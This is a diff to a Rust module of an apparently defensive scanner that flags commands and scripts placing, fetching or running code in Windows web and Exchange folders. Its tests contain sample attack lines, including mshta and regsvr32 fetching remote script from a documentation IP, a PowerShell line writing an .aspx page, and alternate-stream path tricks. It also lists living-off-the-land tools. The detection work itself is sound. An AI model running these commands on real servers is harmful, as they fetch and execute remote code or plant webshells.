@@ -1,10 +1,11 @@
 //! What a command line or a script that runs by itself does to the web server: writes pages, runs from where no program belongs,
 //! hides or fetches what it runs. Names prove nothing (`\Microsoft\Windows\...` is anybody's to write), so commands alone are judged.
 
-use super::Plan;
+use super::discover::EXCHANGE_WEB;
+use super::{Area, Plan};
 use crate::evidence::{Evidence, Resolver, classify};
 use crate::model::place::kind;
-use crate::model::server_path::{extension, fold};
+use crate::model::server_path::{extension, fold, same_name};
 use crate::model::{Problem, ProblemKind, Reason, ReasonKind, Role, ServerPath};
 use std::io::Read;
 
@@ -43,6 +44,11 @@ impl Sign {
         Self { id: "unsigned", points: 25, words: "has no signature, as the others here have" }
     }
 
+    /// A library of PHP that lies nowhere near it.
+    pub(super) fn extension() -> Self {
+        Self { id: "extension", points: 30, words: "one that lies outside of its folder" }
+    }
+
     /// Code before every page of PHP, as firewalls of plugins and profilers have it too.
     pub(super) fn prepended() -> Self {
         Self { id: "prepended", points: 30, words: "runs a file before or after every page" }
@@ -67,7 +73,13 @@ impl<'g, 'e> Ground<'g, 'e> {
         drives: &'g [char],
         plan: &Plan,
     ) -> Self {
-        let served = plan.areas.iter().filter(|area| area.every_file && area.role != Role::Unknown);
+        // Of an installation of Exchange the programs are examined whole as well, and its services lie there.
+        let is_web = |area: &Area| match area.role {
+            Role::Unknown => false,
+            Role::Exchange => EXCHANGE_WEB.iter().any(|name| same_name(area.path.name(), name)),
+            _ => true,
+        };
+        let served = plan.areas.iter().filter(|area| area.every_file && is_web(area));
         let mut web: Vec<String> = served.map(|area| format!("{}\\", area.path.folded())).collect();
         web.sort();
         web.dedup();
@@ -80,8 +92,7 @@ impl<'g, 'e> Ground<'g, 'e> {
     pub(super) fn command(&self, file: &ServerPath, command: &Command<'_>, plan: &mut Plan) {
         let line = self.plain(&command.line);
         let mut signs = self.signs(&line, false);
-        let tokens = tokens(&line);
-        let program = program(&line);
+        let (program, tokens) = self.placed(&line, &self.plain(command.folder));
         signs.extend(self.place(&program, &tokens));
         // Whatever it is called, what an interpreter is given is a script.
         let interpreted = ["wscript", "cscript", "mshta", "python", "php", "perl", "ruby"]
@@ -96,17 +107,92 @@ impl<'g, 'e> Ground<'g, 'e> {
             .enumerate()
             .filter(|(at, token)| is_script(token) || given(*at) && is_absolute(token) && !is_library(token));
         for script in named.map(|(_, token)| token).chain([&program].into_iter().filter(|program| is_script(program))) {
-            let path = if is_absolute(script) || command.folder.is_empty() {
-                script.clone()
-            } else {
-                format!("{}\\{script}", self.plain(command.folder).trim_end_matches('\\'))
-            };
-            for script in self.files(&path) {
+            for script in self.files(script) {
                 let title = format!("{} runs it, and it ", command.by);
                 self.script(&script, &title, plan);
             }
         }
         note(plan, file, &signs, &format!("{} ", command.by), &command.line);
+    }
+
+    /// The program and the words of a command, what it runs by a relative path put into the folder that it runs in: that of the
+    /// command, or one that it changes into itself.
+    fn placed(&self, line: &str, folder: &str) -> (String, Vec<String>) {
+        let mut folder = normal(folder.trim().trim_matches('"')).trim_end_matches('\\').to_owned();
+        let program = program(line);
+        let own = self.relative(&program, &folder).unwrap_or(program);
+        let mut words = Vec::new();
+        let mut changes = false;
+        for word in tokens(line) {
+            if changes && is_absolute(&word) {
+                folder = word.trim_end_matches('\\').to_owned();
+            }
+            // `start /d FOLDER`, `Start-Process -WorkingDirectory FOLDER`.
+            changes = matches!(
+                word.as_str(),
+                "cd" | "chdir" | "pushd" | "set-location" | "push-location" | "sl" | "\\d" | "-workingdirectory"
+            );
+            let runs = is_script(&word) || is_library(&word);
+            words.push(self.relative(&word, &folder).filter(|_| runs).unwrap_or(word));
+        }
+        (own, words)
+    }
+
+    /// A relative path in the folder that it starts from. A program of Windows is found without that folder, and so is an interpreter.
+    fn relative(&self, path: &str, folder: &str) -> Option<String> {
+        const FOUND: &[&str] = &[
+            "cmd",
+            "powershell",
+            "pwsh",
+            "wscript",
+            "cscript",
+            "mshta",
+            "rundll32",
+            "regsvr32",
+            "robocopy",
+            "xcopy",
+            "php",
+            "php-cgi",
+            "python",
+            "pythonw",
+            "py",
+            "node",
+            "npm",
+            "java",
+            "javaw",
+            "perl",
+            "ruby",
+            "dotnet",
+            "msbuild",
+            "net",
+            "sc",
+            "schtasks",
+            "appcmd",
+            "iisreset",
+            "certutil",
+            "curl",
+            "tar",
+            "forfiles",
+            "msiexec",
+            "wmic",
+            "reg",
+            "git",
+        ];
+        if folder.is_empty()
+            || path.is_empty()
+            || is_absolute(path)
+            || path.starts_with(['\\', '-', '%', '$', '<', '"'])
+        {
+            return None;
+        }
+        let bare = path.trim_end_matches(".exe");
+        let system = |end: &str| format!("{}:\\windows\\system32\\{path}{end}", self.system.to_ascii_lowercase());
+        if !path.contains('\\')
+            && (FOUND.contains(&bare) || ["", ".exe"].iter().any(|end| !self.files(&system(end)).is_empty()))
+        {
+            return None;
+        }
+        Some(normal(&format!("{folder}\\{path}")))
     }
 
     /// Judges a script, and those that it names, which are examined as well.
@@ -184,7 +270,21 @@ impl<'g, 'e> Ground<'g, 'e> {
         const MARKS: &[&str] =
             &[r"\aspnet_client\", r"\owa\auth\", r"\ecp\auth\", r"\web server extensions\", r"\inetpub\wwwroot\"];
         let path = format!("{}\\", path.trim_end_matches('\\'));
-        self.web.iter().any(|folder| path.starts_with(folder)) || MARKS.iter().any(|mark| path.contains(mark))
+        // A path without a drive is one of the drive that it is used on.
+        let rooted =
+            |folder: &String| path.starts_with('\\') && folder.get(2..).is_some_and(|rest| path.starts_with(rest));
+        if self.web.iter().any(|folder| path.starts_with(folder) || rooted(folder))
+            || MARKS.iter().any(|mark| path.contains(mark))
+        {
+            return true;
+        }
+        // Short names are those of folders that exist.
+        let longest = path.match_indices('\\').map(|(at, _)| &path[..at]).filter(|part| part.contains('~')).take(12);
+        let given = |path: &ServerPath| path.drive_letter().is_some_and(|letter| self.drives.contains(&letter));
+        longest.filter_map(ServerPath::from_windows).filter(given).any(|part| {
+            let real = self.resolver.folders(&part).into_iter().map(|folder| format!("{}\\", folder.folded()));
+            real.into_iter().any(|real| self.web.iter().any(|folder| real.starts_with(folder)))
+        })
     }
 
     /// What a text, folded and with variables put in, says. Of a script all lines count together.
@@ -258,6 +358,11 @@ impl<'g, 'e> Ground<'g, 'e> {
     fn writes_to_web(&self, line: &str) -> bool {
         let tokens = tokens(line);
         let web = |token: &String| self.is_web(token);
+        let name = |token: &String| token.rsplit('\\').next().unwrap_or_default().trim_end_matches(".exe").to_owned();
+        let unpacks = tokens.iter().any(|token| UNPACKERS.contains(&name(token).as_str()));
+        if unpacks && tokens.iter().any(|token| UNPACK.contains(&token.as_str()) || name(token) == "unzip") {
+            return tokens.iter().any(web);
+        }
         let verb = tokens.iter().position(|token| {
             let name = token.rsplit('\\').next().unwrap_or_default().trim_end_matches(".exe");
             COPIERS.contains(&name)
@@ -273,13 +378,14 @@ impl<'g, 'e> Ground<'g, 'e> {
     }
 
     /// What the place of the program, and of a script that it is given, says.
-    fn place(&self, program: &str, tokens: &[String]) -> Vec<Sign> {
+    pub(super) fn place(&self, program: &str, tokens: &[String]) -> Vec<Sign> {
         let mut worst: Option<Sign> = None;
         for (path, is_program) in [(program, true)]
             .into_iter()
             .chain(tokens.iter().filter(|token| is_script(token) || is_library(token)).map(|t| (t.as_str(), false)))
         {
-            if !is_absolute(path) {
+            // A switch of a command shell is no path.
+            if !is_absolute(path) && !(path.starts_with('\\') && path.len() > 3) {
                 continue;
             }
             let sign = if path.starts_with("\\\\") {
@@ -363,6 +469,13 @@ const COPIERS: &[&str] = &[
     "bitsadmin",
 ];
 
+/// Short names of PowerShell for what writes a file, and programs that write one which they are told.
+const ALIASES: &[&str] = &["sc", "ac", "ni", "tee", "rni", "replace", "makecab", "csc", "vbc", "jsc"];
+
+/// What unpacks, and the words by which it does.
+const UNPACKERS: &[&str] = &["tar", "7z", "7za", "7zr", "rar", "unrar", "winrar", "unzip"];
+const UNPACK: &[&str] = &["x", "e", "xf", "xvf", "xzf", "-x", "-xf", "-xvf", "-xzf", "-xvzf"];
+
 /// Words that write a file.
 const WRITERS: &[&str] = &[
     "set-content",
@@ -391,7 +504,7 @@ const WRITERS: &[&str] = &[
 fn writes(line: &str) -> bool {
     let verb = |token: &String| {
         let name = token.rsplit('\\').next().unwrap_or_default().trim_end_matches(".exe");
-        COPIERS.contains(&name) || matches!(name, "attrib" | "type" | "echo")
+        COPIERS.contains(&name) || ALIASES.contains(&name) || matches!(name, "attrib" | "type" | "echo")
     };
     // `dir /s *.aspx > list.txt` writes no page: what is written stands behind the sign.
     let redirects =
@@ -432,13 +545,17 @@ fn program(line: &str) -> String {
     if line.starts_with(['"', '\'']) {
         return tokens(line).into_iter().next().unwrap_or_default();
     }
+    normal(unquoted(line))
+}
+
+fn unquoted(line: &str) -> &str {
     let ends = [".exe", ".bat", ".cmd", ".com", ".ps1", ".vbs", ".scr", ".sys", ".dll"].iter().filter_map(|end| {
         line.match_indices(end)
             .map(|(at, end)| at + end.len())
             .find(|at| line[*at..].chars().next().is_none_or(|c| !c.is_alphanumeric()))
     });
     let end = ends.min().unwrap_or_else(|| line.find(char::is_whitespace).unwrap_or(line.len()));
-    line[..end].trim().to_owned()
+    line[..end].trim()
 }
 
 /// The words of a line: quoted ones as they are, others up to a blank or a sign that parts them.
@@ -479,7 +596,37 @@ fn tokens_of(line: &str) -> Vec<String> {
         .collect();
     words.extend(inner);
     words.retain(|word| !word.is_empty());
-    words
+    // A path that is written right behind its switch: `-oC:\site`, `/out:C:\site\x.dll`.
+    let behind = words.iter().filter(|word| word.starts_with(['-', '\\'])).filter_map(|word| {
+        let at = word.find(":\\").filter(|at| *at > 1 && word.as_bytes()[at - 1].is_ascii_alphabetic())?;
+        word.get(at - 1..).map(str::to_owned)
+    });
+    let behind: Vec<String> = behind.collect();
+    words.extend(behind);
+    words.into_iter().map(|word| normal(&word)).collect()
+}
+
+/// A path of a drive as Win32 takes it: without doubled backslashes, `.` and `..`, blanks and dots at the ends of names, and streams.
+/// Anything else is left as it is.
+fn normal(word: &str) -> String {
+    let Some(rest) = word.get(3..).filter(|_| is_absolute(word) && !word.starts_with('\\')) else {
+        return word.to_owned();
+    };
+    let mut names: Vec<&str> = Vec::new();
+    for name in rest.split('\\') {
+        match name {
+            "" | "." => {}
+            ".." => {
+                names.pop();
+            }
+            name => {
+                let name = name.split(':').next().unwrap_or_default();
+                names.push(name.trim_end_matches([' ', '.']));
+            }
+        }
+    }
+    let end = if word.ends_with('\\') && !names.is_empty() { "\\" } else { "" };
+    format!("{}{}{end}", &word[..3], names.join("\\"))
 }
 
 /// Whether a switch that PowerShell takes for EncodedCommand is followed by what can be one.
@@ -552,11 +699,16 @@ mod tests {
         let mut plan = Plan::default();
         let folder = ServerPath::from_windows(r"C:\sites\a").expect("absolute");
         super::super::add(&mut plan, folder.clone(), Role::WebRoot, &folder, true);
+        for folder in [r"C:\Ex\bin", r"C:\Ex\FrontEnd"] {
+            let folder = ServerPath::from_windows(folder).expect("absolute");
+            super::super::add(&mut plan, folder.clone(), Role::Exchange, &folder, true);
+        }
         let ground = Ground::new(&evidence, &resolver, &ServerPath::drive('C'), &['C'], &plan);
         let line = ground.plain(line);
         let mut signs: Vec<&str> = ground.signs(&line, is_script).iter().map(|sign| sign.id).collect();
         if !is_script {
-            signs.extend(ground.place(&program(&line), &tokens(&line)).iter().map(|sign| sign.id));
+            let (program, tokens) = ground.placed(&line, "");
+            signs.extend(ground.place(&program, &tokens).iter().map(|sign| sign.id));
         }
         signs
     }
@@ -585,6 +737,17 @@ mod tests {
             ("mshta http://203.0.113.9/a.hta", &["script_of_elsewhere"]),
             ("regsvr32 /s /n /u /i:http://203.0.113.9/a.sct scrobj.dll", &["script_of_elsewhere"]),
             (r"C:\Windows\System32\svchost.exe -k netsvcs", &[]),
+            (r"C:\Ex\bin\MSExchangeMailboxReplication.exe", &[]),
+            (r"C:\Ex\FrontEnd\HttpProxy\owa\q.exe", &["in_web_folder"]),
+            (r"C:/sites/./a/b/../q.exe", &["in_web_folder"]),
+            (r"C:\\sites\\a. \\q.exe::$DATA -k", &["in_web_folder"]),
+            (r"\sites\a\q.exe", &["in_web_folder"]),
+            (r"cmd /c cd /d C:\sites\a && q.bat", &["in_web_folder"]),
+            (r"cmd /c cd /d C:\sites\a && php artisan schedule:run", &[]),
+            (r#"cmd /b /c start powershell -c "sc C:\sites\a\q.aspx 1""#, &["writes_page"]),
+            ("sc.exe config w3svc start= auto", &[]),
+            (r"7z x C:\data\a.7z -oC:\sites\a", &["writes_to_web_folder"]),
+            (r"7z a D:\backup\a.7z C:\sites\a", &[]),
         ] {
             assert_eq!(signs(line, false), expected, "{line}");
         }
